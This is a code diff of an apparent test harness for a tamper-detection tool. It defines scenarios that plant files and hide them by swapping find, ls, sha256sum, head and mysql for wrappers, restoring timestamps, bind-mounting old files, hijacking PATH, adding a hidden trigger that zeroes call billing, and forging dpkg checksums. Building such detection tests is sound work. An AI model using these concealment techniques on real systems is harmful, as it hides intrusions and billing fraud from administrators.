@@ -24,7 +24,6 @@ class Trick:
     undo: str
     marks: tuple[Mark, ...]
     disagreeing: tuple[str, ...] = ()
-    slice: bool = False
 
 
 def _files(*paths: str) -> tuple[Mark, ...]:
@@ -40,7 +39,8 @@ SILENT_FIND = r"""
 my $pairs = grep { /%p.0%y/ } @ARGV;
 my %old; open my $kept, '<', '/run/kept/records' or die; { local $/; my @all = split /\0/, <$kept>, -1;
 while (@all > 1) { my ($path, $told) = splice @all, 0, 2; $old{$path} = $told; } }
-open my $real, '-|', '/run/kept/find', @ARGV or die; binmode $real; local $/ = (grep { /\\0|print0/ } @ARGV) ? "\0" : "\n";
+open my $real, '-|', '/run/kept/find', @ARGV or die; binmode $real;
+local $/ = (grep { /\\0|print0/ } @ARGV) ? "\0" : "\n";
 while (defined(my $path = <$real>)) {
   my $told = $pairs ? <$real> : ''; (my $bare = $path) =~ s/[\0\n]$//;
   next if $bare =~ /planted/; $told = "$old{$bare}\0" if $pairs and exists $old{$bare}; print $path, $told; }
@@ -62,10 +62,16 @@ def _replaced(tool: str, body: str, interpreter: str = "/bin/sh") -> tuple[str, 
         f"tool=$(readlink -f $(command -v {tool})); cp -p $tool /run/kept/{tool}; cp -p $tool $tool.new; "
         f"printf '%s\n' '#!{interpreter}' {_quoted(body)} >$tool.new; "
         # A name in place of a name: programs that run keep theirs. Zeros behind the end are no line of a script.
-        f"echo exit >>$tool.new; truncate -r /run/kept/{tool} $tool.new; touch -r /run/kept/{tool} $tool.new; mv $tool.new $tool\n"
+        f"echo exit >>$tool.new; truncate -r /run/kept/{tool} $tool.new; "
+        f"touch -r /run/kept/{tool} $tool.new; mv $tool.new $tool\n"
     )
     undo = f"tool=$(readlink -f $(command -v {tool})); cp -p /run/kept/{tool} $tool.new; mv $tool.new $tool\n"
     return hide, undo
+
+
+def _recorded(paths: str) -> str:
+    """Keeps what find tells of these before anything is done."""
+    return f"find {paths} -maxdepth 0 -printf '{RECORD}' >/run/kept/records\n"
 
 
 def _quoted(text: str) -> str:
@@ -73,13 +79,15 @@ def _quoted(text: str) -> str:
 
 
 HIDDEN_TRIGGER = "CREATE TRIGGER planted_hidden BEFORE INSERT ON cdr FOR EACH ROW SET NEW.billsec = 0"
-SQL = "/opt/pbxware/sh/mysql pbxware -e"
+CLIENT = "/opt/pbxware/sh/mysql"
+SQL = f"{CLIENT} pbxware -e"
+INFO = "/var/lib/dpkg/info/tzdata"
 
 
 def tricks() -> tuple[Trick, ...]:
     """All of them, in an order in which each leaves the next a clean system."""
     find, find_back = _replaced("find", SILENT_FIND + "__END__", "/usr/bin/perl")
-    find = f"find /usr/local/bin /usr/bin /bin/ls /usr/bin/find /bin -maxdepth 0 -printf '{RECORD}' >/run/kept/records\n{PLANTED}{find}"
+    find = f"{_recorded('/usr/local/bin /usr/bin /bin /bin/ls /usr/bin/find')}{PLANTED}{find}"
     lister, lister_back = _replaced("ls", "/run/kept/ls \"$@\" | sed '/planted/d'; exit 0")
     hasher, hasher_back = _replaced("sha256sum", f'/run/kept/sha256sum "$@" | {OLD_SUMS}; exit 0')
     hasher = (
@@ -87,11 +95,12 @@ def tricks() -> tuple[Trick, ...]:
     )
     header, header_back = _replaced(
         "head",
-        'for last; do :; done; case $last in */sha256sum) set -- "$1" "$2" /run/kept/sha256sum ;; */head) set -- "$1" "$2" '
-        '/run/kept/head ;; */login.php) set -- "$1" "$2" /run/kept/login ;; esac; exec /run/kept/head "$@"',
+        "for last; do :; done; case $last in "
+        '*/sha256sum | */head) set -- "$1" "$2" "/run/kept/${last##*/}" ;; '
+        '*/login.php) set -- "$1" "$2" /run/kept/login ;; esac; exec /run/kept/head "$@"',
     )
     return (
-        Trick("same size, time put back", SWAPPED, BACK, _files(FILE), slice=True),
+        Trick("same size, time put back", SWAPPED, BACK, _files(FILE)),
         Trick(
             "old file mounted over the changed one",
             f"cp -p {FILE} /run/kept/login; echo '// open' >>{FILE}; mount --bind /run/kept/login {FILE}",
@@ -113,18 +122,19 @@ def tricks() -> tuple[Trick, ...]:
             (Mark("mounts", GUI),),
             ("mount",),
         ),
-        Trick("find that keeps silent", find, find_back + GONE, (), ("find",), slice=True),
+        Trick("find that keeps silent", find, find_back + GONE, (), ("find",)),
         Trick("find and ls that keep silent", find + lister, find_back + lister_back + GONE, (), ("find",)),
-        Trick("sha256sum that tells the old sum", hasher, hasher_back + BACK, (), ("sha256sum",), slice=True),
+        Trick("sha256sum that tells the old sum", hasher, hasher_back + BACK, (), ("sha256sum",)),
         Trick(
             "sha256sum and head that tell the old file", hasher + header, header_back + hasher_back + BACK, (),
             ("sha256sum", "SHA-256"),
         ),
         Trick(
             "another find, earlier on the way",
-            f"find /usr/local/bin /root /root/.bashrc /dev/shm -maxdepth 0 -printf '{RECORD}' >/run/kept/records\n{PLANTED}"
-            f"cp -p $(command -v find) /run/kept/find; mkdir -p /run/kept/way; "
-            f"printf '%s\n' '#!/usr/bin/perl' {_quoted(SILENT_FIND)} >/run/kept/way/find; chmod 755 /run/kept/way/find; "
+            f"{_recorded('/usr/local/bin /root /root/.bashrc')}{PLANTED}"
+            "cp -p $(command -v find) /run/kept/find; mkdir -p /run/kept/way; "
+            f"printf '%s\n' '#!/usr/bin/perl' {_quoted(SILENT_FIND)} >/run/kept/way/find; "
+            "chmod 755 /run/kept/way/find; "
             f"cp -p /root/.bashrc /run/kept/bashrc; sed -i '1iexport PATH=/run/kept/way:$PATH' /root/.bashrc",
             f"cp -p /run/kept/bashrc /root/.bashrc; rm -r /run/kept/way\n{GONE}",
             (),
@@ -132,10 +142,11 @@ def tricks() -> tuple[Trick, ...]:
         ),
         Trick(
             "client that swallows a trigger",
-            f'{SQL} "{HIDDEN_TRIGGER}"; cp -p /opt/pbxware/sh/mysql /run/kept/mysql; '
-            "printf '#!/bin/sh\\nchroot /opt/pbxware/pw /usr/bin/mysql \"$@\" | sed /planted_hidden/d\\n' >/opt/pbxware/sh/mysql",
-            f"cp -p /run/kept/mysql /opt/pbxware/sh/mysql; {SQL} 'DROP TRIGGER planted_hidden'",
-            (Mark("triggers", "*planted_hidden*", glob=True), *_files("/opt/pbxware/sh/mysql")),
+            f'{SQL} "{HIDDEN_TRIGGER}"; cp -p {CLIENT} /run/kept/mysql; '
+            "printf '#!/bin/sh\\nchroot /opt/pbxware/pw /usr/bin/mysql \"$@\" | sed /planted_hidden/d\\n' "
+            f">{CLIENT}",
+            f"cp -p /run/kept/mysql {CLIENT}; {SQL} 'DROP TRIGGER planted_hidden'",
+            (Mark("triggers", "*planted_hidden*", glob=True), *_files(CLIENT)),
             ("mysql",),
         ),
         Trick(
@@ -150,10 +161,9 @@ def tricks() -> tuple[Trick, ...]:
         ),
         Trick(
             "a package's list that claims the file",
-            f"{PLANTED}cp -p /var/lib/dpkg/info/tzdata.list /run/kept/list; echo {PLANT} >>/var/lib/dpkg/info/tzdata.list; "
-            "cp -p /var/lib/dpkg/info/tzdata.md5sums /run/kept/md5; "
-            f"echo \"$(md5sum <{PLANT} | cut -c1-32)  {PLANT[1:]}\" >>/var/lib/dpkg/info/tzdata.md5sums",
-            "cp -p /run/kept/list /var/lib/dpkg/info/tzdata.list; cp -p /run/kept/md5 /var/lib/dpkg/info/tzdata.md5sums\n" + GONE,
+            f"{PLANTED}cp -p {INFO}.list /run/kept/list; cp -p {INFO}.md5sums /run/kept/md5; "
+            f"echo {PLANT} >>{INFO}.list; echo \"$(md5sum <{PLANT} | cut -c1-32)  {PLANT[1:]}\" >>{INFO}.md5sums",
+            f"cp -p /run/kept/list {INFO}.list; cp -p /run/kept/md5 {INFO}.md5sums\n{GONE}",
             _files(PLANT),
         ),
         Trick(
